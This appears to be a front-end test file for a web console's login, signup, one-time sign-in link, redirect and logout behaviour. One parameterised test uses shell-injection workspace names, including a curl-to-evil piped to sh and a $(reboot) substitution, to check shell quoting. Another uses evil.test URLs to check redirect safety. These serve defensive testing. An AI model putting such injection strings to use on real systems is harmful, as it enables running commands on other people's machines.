/** covers: AUTH-01, AUTH-02, AUTH-11 */
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { answerWith } from '../../testing/network';
import { renderRoutes, sessionOf } from '../../testing/render';
import { routes } from '../router';
import { landingOf } from './landing-path';

const instances = {
  'GET /api/auth/providers': { body: [] },
  'GET /api/auth/instance/exists': ({ path }: { path: string }) =>
    path.endsWith('=harbour')
      ? { body: { uuid: 'u', name: 'harbour' } }
      : { status: 404, body: { msg: 'instance could not be found' } },
};

beforeEach(() => localStorage.clear());

const workspace = () => screen.findByLabelText('Workspace');

describe('the workspace', () => {
  test('is required, with a different message for login and signup', async () => {
    answerWith(instances);
    renderRoutes(routes, { at: '/login' });
    await workspace();
    await userEvent.click(screen.getByRole('button', { name: 'Login' }));
    expect(await screen.findByText('Please insert an instance name')).toBeVisible();
    await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
    expect(await screen.findByText('Enter an instance name')).toBeVisible();
  });

  test('leads to the second step if it exists, and Back returns', async () => {
    answerWith(instances);
    renderRoutes(routes, { at: '/login' });
    await userEvent.type(await workspace(), 'harbour{Enter}');
    expect(await screen.findByText(/no sign-in provider configured/)).toBeVisible();
    expect(screen.getByText('npm run sign-in-link -- --workspace harbour')).toBeVisible();
    await userEvent.click(screen.getByRole('button', { name: 'Back' }));
    expect(await workspace()).toHaveValue('harbour');
  });

  test.each([
    ['x;curl${IFS}evil|sh', `'x;curl${'${IFS}'}evil|sh'`],
    ['my $(reboot) yard', "'my $(reboot) yard'"],
    ["o'hara", String.raw`'o'\''hara'`],
  ])('is quoted as one word in the shell command: %s', async (name, word) => {
    answerWith(instances);
    renderRoutes(routes, { at: `/login?instance=${encodeURIComponent(name)}` });
    await workspace();
    await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
    expect(await screen.findByText(`npm run sign-in-link -- --workspace ${word}`)).toBeVisible();
  });

  test('that does not exist is reported at login and accepted at signup', async () => {
    answerWith(instances);
    renderRoutes(routes, { at: '/login' });
    await userEvent.type(await workspace(), 'shipyard{Enter}');
    expect(await screen.findByText('instance could not be found')).toBeVisible();
    await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
    expect(await screen.findByRole('heading', { name: 'Sign up to your account' })).toBeVisible();
  });

  test('that exists is refused at signup', async () => {
    answerWith(instances);
    renderRoutes(routes, { at: '/login' });
    await userEvent.type(await workspace(), 'harbour');
    await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
    expect(
      await screen.findByText('This instance name already exists, please choose another one'),
    ).toBeVisible();
  });

  test('in the address leads to the second step at once', async () => {
    answerWith(instances);
    renderRoutes(routes, { at: '/login?instance=harbour' });
    expect(await screen.findByText(/no sign-in provider configured/)).toBeVisible();
  });
});

describe('with a provider', () => {
  const github = { name: 'github', label: 'GitHub' };
  const google = { name: 'google', label: 'Google' };

  test.each([
    ['Login', 'harbour', 'Sign in with GitHub'],
    ['Signup', 'shipyard', 'Sign up with GitHub'],
  ])('%s offers the source host first, and Google on request', async (button, name, words) => {
    answerWith({ ...instances, 'GET /api/auth/providers': { body: [github, google] } });
    renderRoutes(routes, { at: '/login' });
    await userEvent.type(await workspace(), name);
    await userEvent.click(screen.getByRole('button', { name: button }));
    expect(await screen.findByRole('button', { name: words })).toBeVisible();
    expect(screen.getByText(name)).toBeVisible();
    expect(screen.queryByRole('button', { name: words.replace('GitHub', 'Google') })).toBeNull();
    await userEvent.click(screen.getByRole('button', { name: 'Use Google instead' }));
    expect(screen.getByRole('button', { name: words.replace('GitHub', 'Google') })).toBeVisible();
    expect(screen.queryByRole('button', { name: words })).toBeNull();
  });

  test('an unreachable provider is reported, and its button stays', async () => {
    answerWith({
      ...instances,
      'GET /api/auth/providers': { body: [google] },
      'GET /api/auth/sso/google/url': {
        status: 502,
        body: { msg: 'accounts.google.com refused the connection' },
      },
    });
    renderRoutes(routes, { at: '/login?instance=harbour' });
    await userEvent.click(await screen.findByRole('button', { name: 'Sign in with Google' }));
    expect(await screen.findByText('accounts.google.com refused the connection')).toBeVisible();
    expect(screen.getByRole('button', { name: 'Sign in with Google' })).toBeEnabled();
  });
});

test('says who may invite where nobody can sign up', async () => {
  const msg =
    'nobody can make a new workspace here: ask an administrator of an existing one for an invitation';
  answerWith({
    ...instances,
    'GET /api/auth/providers': { body: [{ name: 'github', label: 'GitHub' }] },
    'GET /api/auth/sso/github/url': { status: 403, body: { msg } },
  });
  renderRoutes(routes, { at: '/login' });
  await userEvent.type(await workspace(), 'shipyard');
  await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
  await userEvent.click(await screen.findByRole('button', { name: 'Sign up with GitHub' }));
  expect(await screen.findByText('You cannot sign up')).toBeVisible();
  expect(screen.getByText(msg)).toBeVisible();
});

describe('a one-time link', () => {
  test('signs in and opens the wanted page', async () => {
    const { calls } = answerWith({
      'POST /api/auth/link': { body: sessionOf() },
      'GET /api/session': { body: sessionOf() },
    });
    const { router, store } = renderRoutes(routes, { at: '/login?code=once-1&return=%2Fapp%2Fprofile' });
    await waitFor(() => expect(router.state.location.pathname).toBe('/app/profile'));
    expect(store.getState().session.value).toEqual(sessionOf());
    expect(calls.filter(({ path }) => path === '/api/auth/link').map(({ body }) => body)).toEqual([
      { code: 'once-1' },
    ]);
  });

  test('has precedence over the session stored in the browser', async () => {
    const { instance, profile } = sessionOf();
    const other = { ...sessionOf(), profile: { ...profile, instance: { ...instance, name: 'dockyard' } } };
    answerWith({ 'POST /api/auth/link': { body: other }, 'GET /api/session': { body: other } });
    const { router, store } = renderRoutes(routes, { at: '/login?code=once-4', session: sessionOf() });
    await waitFor(() => expect(store.getState().session.value).toEqual(other));
    await waitFor(() => expect(router.state.location.pathname).toBe('/app'));
  });

  test('that was already used says so, and explains how to get another', async () => {
    answerWith({ 'POST /api/auth/link': { status: 401, body: { msg: 'used' } } });
    renderRoutes(routes, { at: '/login?code=once-2' });
    expect(await screen.findByText('This sign-in link is no longer valid')).toBeVisible();
    expect(screen.getByText('npm run sign-in-link')).toBeVisible();
  });

  test('remains valid if the server could not check it', async () => {
    answerWith({ 'POST /api/auth/link': { status: 503, body: { msg: 'The log cannot be reached' } } });
    renderRoutes(routes, { at: '/login?code=once-3' });
    expect(await screen.findByText('The link was not used up. Try again in a moment.')).toBeVisible();
  });
});

test('after sign-in opens the wanted page of the console, or else the start page of the role', () => {
  const wanted = ['/app/server?q=1', 'https://evil.test', '//evil.test', '/application', '/app', null];
  expect(wanted.map((one) => landingOf(sessionOf('admin'), one))).toEqual([
    '/app/server?q=1',
    '/app',
    '/app',
    '/app',
    '/app',
    '/app',
  ]);
  expect(landingOf(sessionOf('admin', 'superadmin'))).toBe('/superadmin');
  expect(landingOf(sessionOf('admin', 'superadmin'), '/app/server')).toBe('/app/server');
  const ofProduct = sessionOf('admin');
  ofProduct.profile.instance.product = { id: 'p' };
  expect(landingOf(ofProduct)).toBeUndefined();
  expect(landingOf({ ...ofProduct, permissions: ['admin', 'superadmin'] })).toBe('/superadmin');
});

test('signing out ends the session in the browser even if the call fails, which is logged', async () => {
  const logged = jest.spyOn(console, 'error').mockImplementation(() => undefined);
  answerWith({ 'POST /api/auth/logout': { status: 500, body: { msg: 'x' } } });
  const { store, router } = renderRoutes(routes, { at: '/logout', session: sessionOf() });
  await waitFor(() => expect(router.state.location.pathname).toBe('/login'));
  expect(store.getState().session.value).toBeUndefined();
  expect(logged).toHaveBeenCalledWith(
    'User logout: something went wrong while logging out user',
    expect.anything(),
  );
  logged.mockRestore();
});
